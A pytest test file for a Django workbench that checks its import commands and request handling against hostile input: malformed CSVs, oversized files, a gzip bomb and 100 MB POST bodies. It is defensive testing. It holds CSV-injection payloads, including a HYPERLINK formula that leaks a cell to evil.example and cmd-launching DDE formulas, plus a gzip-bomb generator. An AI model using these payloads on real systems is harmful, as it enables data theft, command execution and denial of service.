"""Hostile import files and request bodies.

The workbench takes files in two places, both management commands: `import_polis`
(a folder of CSV files) and `import_comparisons` (CSV or JSON Lines, optionally
gzip-compressed). No web page or API endpoint accepts a file; the request-body limit
below is what stands between a 100 MB POST and the server.

Every bad file must end in a clear error naming the file, with no row added to any
table; a file past the size limit is refused from its size, without being read; a
gzip bomb is unpacked no further than the limit; formula cells are stored as text
and neutralised in the CSV export only.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.handlers.wsgi import WSGIHandler
from django.core.management import CommandError, call_command
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.test import Client
from django.urls import reverse

from tests.hostile.files import (
    COMPARISONS,
    POLIS_COMMENTS,
    POLIS_VOTES,
    polis_folder,
    row_counts,
)
from workbench.cards.exports.writers import export_to_folder
from workbench.deliberation.models import Principle, Workshop
from workbench.judging.models import HumanJudgment, Prompt, Response

MB = 1024 * 1024
BIG = 100 * MB
# What refusing a file by its size may allocate: messages and a stat, not the file.
REFUSAL_PEAK = 2 * MB


def _zip(name: str, text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, text)
    return buffer.getvalue()


def _latin1(text: str) -> bytes:
    return text.replace("comment", "commentaire café").encode("latin-1")


# name -> (the valid text -> the hostile bytes)
BROKEN: dict[str, Callable[[str], bytes]] = {
    "wrong columns": lambda text: b"a,b,c\n1,2,3\n",
    "latin-1": _latin1,
    "utf-16": lambda text: text.encode("utf-16"),
    "binary": lambda text: bytes(range(256)) * 16,
    "empty": lambda text: b"",
    "header only": lambda text: text.splitlines()[0].encode() + b"\n",
    "zip archive": lambda text: _zip("data.csv", text),
}


def _latin1_comparisons(text: str) -> bytes:
    return text.replace("Fine thanks", "Très bien").encode("latin-1")


BROKEN_COMPARISONS = {**BROKEN, "latin-1": _latin1_comparisons}


def _import_polis(folder: Path, slug: str = "imported") -> None:
    call_command("import_polis", str(folder), "--workshop", slug, stdout=io.StringIO())


@pytest.fixture
def importer(owner: Any) -> Any:
    """`import_polis` needs an owner: the only superuser."""
    owner.is_superuser = True
    owner.save(update_fields=["is_superuser"])
    return owner


@pytest.mark.parametrize(
    ("file", "valid", "case"),
    [
        (file, valid, case)
        for file, valid in (("comments", POLIS_COMMENTS), ("votes", POLIS_VOTES))
        for case in BROKEN
        # A votes.csv with only its header is valid: nobody voted.
        if (file, case) != ("votes", "header only")
    ],
)
def test_a_broken_polis_file_is_refused_and_nothing_is_stored(
    importer, tmp_path, file, valid, case
):
    folder = polis_folder(tmp_path / "export", **{file: BROKEN[case](valid)})
    before = row_counts()
    with pytest.raises(CommandError) as refused:
        _import_polis(folder)
    message = str(refused.value)
    assert f"{file}.csv" in message
    assert "Nothing was imported." in message
    assert row_counts() == before
    assert not Workshop.objects.filter(slug="imported").exists()


@pytest.mark.parametrize("case", list(BROKEN_COMPARISONS))
def test_a_broken_comparison_file_is_refused_and_nothing_is_stored(
    setup, tmp_path, case
):
    path = tmp_path / "pairs.csv"
    path.write_bytes(BROKEN_COMPARISONS[case](COMPARISONS))
    before = row_counts()
    with pytest.raises(CommandError) as refused:
        call_command("import_comparisons", str(path), "--workshop", setup.workshop.slug)
    assert "pairs.csv" in str(refused.value)
    assert "Nothing was imported." in str(refused.value)
    assert row_counts() == before


def test_the_valid_files_behind_the_broken_ones_import(importer, setup, tmp_path):
    """The broken files differ from these in one thing only."""
    _import_polis(polis_folder(tmp_path / "export"))
    assert Principle.objects.filter(workshop__slug="imported").count() == 2
    path = tmp_path / "pairs.csv"
    path.write_text(COMPARISONS)
    call_command(
        "import_comparisons",
        str(path),
        "--workshop",
        setup.workshop.slug,
        stdout=io.StringIO(),
    )
    assert HumanJudgment.objects.count() == 2


def _write_big(path: Path, header: str, row: str, size: int = BIG) -> None:
    """A valid-looking CSV of `size` bytes, written 1 MB at a time."""
    chunk = row * (MB // len(row))
    with path.open("w") as out:
        out.write(header)
        written = len(header)
        while written < size:
            out.write(chunk)
            written += len(chunk)


def _peak_during(action: Callable[[], object]) -> int:
    tracemalloc.start()
    try:
        action()
    except CommandError:
        pass
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


def test_a_100_mb_polis_file_is_refused_by_its_size_unread(importer, tmp_path):
    folder = polis_folder(tmp_path / "export")
    header = POLIS_VOTES.splitlines()[0] + "\n"
    _write_big(folder / "votes.csv", header, "1500000003000,x,0,0,1\n")
    assert (folder / "votes.csv").stat().st_size >= BIG
    before = row_counts()
    with pytest.raises(CommandError, match=r"votes\.csv: the file is larger than"):
        _import_polis(folder)
    assert _peak_during(lambda: _import_polis(folder)) < REFUSAL_PEAK
    assert row_counts() == before


def test_a_100_mb_comparison_file_is_refused_by_its_size_unread(setup, tmp_path):
    path = tmp_path / "pairs.csv"
    header, row = COMPARISONS.splitlines()[:2]
    _write_big(path, header + "\n", row + "\n")
    before = row_counts()

    def run() -> None:
        call_command("import_comparisons", str(path), "--workshop", setup.workshop.slug)

    with pytest.raises(CommandError, match=r"pairs\.csv: the file is larger than"):
        run()
    assert _peak_during(run) < REFUSAL_PEAK
    assert row_counts() == before


def _gzip_bomb(path: Path, unpacked: int) -> None:
    """`unpacked` bytes of one repeated CSV row, gzip-compressed (about 1:1000)."""
    header, row = COMPARISONS.splitlines()[:2]
    block = (row + "\n") * (MB // (len(row) + 1))
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip container
    with path.open("wb") as out:
        out.write(packer.compress((header + "\n").encode()))
        for _ in range(unpacked // len(block)):
            out.write(packer.compress(block.encode()))
        out.write(packer.flush())


def test_a_gzip_bomb_is_unpacked_no_further_than_the_limit(setup, tmp_path, settings):
    path = tmp_path / "pairs.csv.gz"
    _gzip_bomb(path, 1024 * MB)
    assert path.stat().st_size < 5 * MB  # a small file that unpacks to 1 GB
    settings.WORKBENCH = {**settings.WORKBENCH, "COMPARISON_MAX_BYTES": 8 * MB}
    before = row_counts()

    def run() -> None:
        call_command("import_comparisons", str(path), "--workshop", setup.workshop.slug)

    with pytest.raises(CommandError, match=r"unpacked, the file is larger than"):
        run()
    # The compressed file, and the limit plus a byte unpacked (gzip joins its
    # chunks once, so twice that at the peak): far from the gigabyte inside.
    assert _peak_during(run) < path.stat().st_size + 2 * 8 * MB + REFUSAL_PEAK
    assert row_counts() == before


def test_a_truncated_gzip_file_is_a_clear_error(setup, tmp_path):
    path = tmp_path / "pairs.csv.gz"
    path.write_bytes(gzip.compress(COMPARISONS.encode())[:-12])
    with pytest.raises(CommandError, match=r"pairs\.csv\.gz: not a readable gzip"):
        call_command("import_comparisons", str(path), "--workshop", setup.workshop.slug)


# Cells a spreadsheet would run (OWASP CSV injection), each as a participant might
# have typed it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


def _formula_comparisons() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(COMPARISONS.splitlines()[0].split(","))
    for number, formula in enumerate(FORMULAS):
        writer.writerow(
            [
                f"q{number}",
                "Choose the kinder answer.",
                formula,
                formula + " (a)",
                "Plain text",
                "a",
                "ann1",
                "G1",
                formula,
            ]
        )
    return out.getvalue()


def _csv_cells(folder: Path) -> set[str]:
    cells: set[str] = set()
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                cells.update(row)
    return cells


def _json_values(folder: Path) -> set[str]:
    def walk(value: object) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from walk(item)
        elif isinstance(value, list):
            for item in value:
                yield from walk(item)

    values: set[str] = set()
    for path in folder.glob("*.json"):
        values.update(walk(json.loads(path.read_text(encoding="utf-8"))))
    return values


def test_formula_cells_are_stored_as_text_and_neutralised_in_csv_exports(
    importer, setup, tmp_path
):
    path = tmp_path / "pairs.csv"
    path.write_text(_formula_comparisons())
    call_command(
        "import_comparisons",
        str(path),
        "--workshop",
        setup.workshop.slug,
        stdout=io.StringIO(),
    )
    quoted = [f.replace('"', '""') for f in FORMULAS]
    comments = POLIS_COMMENTS + "".join(
        f'15000000{number}0000,x,{number + 2},0,0,0,1,"{text}"\n'
        for number, text in enumerate(quoted)
    )
    _import_polis(polis_folder(tmp_path / "export", comments=comments), slug="polis")

    # Stored exactly as written: the database holds text, not neutralised text.
    stored = set(Prompt.objects.values_list("text", flat=True))
    stored |= set(Response.objects.values_list("text", flat=True))
    stored |= set(HumanJudgment.objects.values_list("reason", flat=True))
    stored |= set(Principle.objects.values_list("text", flat=True))
    assert set(FORMULAS) <= stored

    for workshop in (setup.workshop, Workshop.objects.get(slug="polis")):
        csv_out = tmp_path / f"{workshop.slug}-csv"
        json_out = tmp_path / f"{workshop.slug}-json"
        export_to_folder(workshop=workshop, fmt="csv", out=csv_out, polis=False)
        export_to_folder(workshop=workshop, fmt="json", out=json_out, polis=False)
        cells, values = _csv_cells(csv_out), _json_values(json_out)
        # No CSV cell starts with a formula character unless it is a number.
        live = [c for c in cells if c and c[0] in "=+-@\t\r" and not _is_number(c)]
        assert live == [], f"{workshop.slug}: formula cells in the CSV: {live}"
        assert {"'" + f for f in FORMULAS} <= cells
        assert set(FORMULAS) <= values  # JSON keeps the text exactly


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


class _Endless(io.RawIOBase):
    """A request body of `size` bytes that counts what the server read of it."""

    def __init__(self, size: int) -> None:
        self.size = size
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        count = min(len(buffer), self.size - self.read_bytes)
        buffer[:count] = b"a" * count
        self.read_bytes += count
        return count


def _post_100_mb(client: Client, path: str, content_type: str) -> tuple[int, int]:
    """POSTs a 100 MB body to `path` with `client`'s cookies; (status, bytes read)."""
    body = _Endless(BIG)
    environ = {
        "REQUEST_METHOD": "POST",
        "PATH_INFO": path,
        "SERVER_NAME": "testserver",
        "SERVER_PORT": "80",
        "wsgi.url_scheme": "http",
        "wsgi.input": io.BufferedReader(body),
        "wsgi.errors": io.StringIO(),
        "CONTENT_TYPE": content_type,
        "CONTENT_LENGTH": str(BIG),
        "HTTP_COOKIE": client.cookies.output(header="", sep=";").strip(),
    }
    statuses: list[str] = []
    # As Django's test client does: the handler must not close the test's
    # database connection when the request ends.
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        response = WSGIHandler()(environ, lambda s, h: statuses.append(s))
        b"".join(response)
        response.close()
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)
    return int(statuses[0].split()[0]), body.read_bytes


@pytest.mark.parametrize(
    "content_type",
    [
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/json",
    ],
)
def test_a_100_mb_request_body_is_refused_unread(owner_client, setup, content_type):
    """No page takes an upload; a huge body to any form or the API is refused
    from its declared length, before it is read."""
    before = row_counts()
    for path in (
        reverse("deliberation:workshop-create"),
        reverse("deliberation:principle-seed", args=[setup.workshop.slug]),
        "/api/v1/workshops/",
    ):
        status, read = _post_100_mb(owner_client, path, content_type)
        assert status in (400, 403, 413), (path, status)
        assert read <= settings.DATA_UPLOAD_MAX_MEMORY_SIZE, (path, read)
    assert row_counts() == before
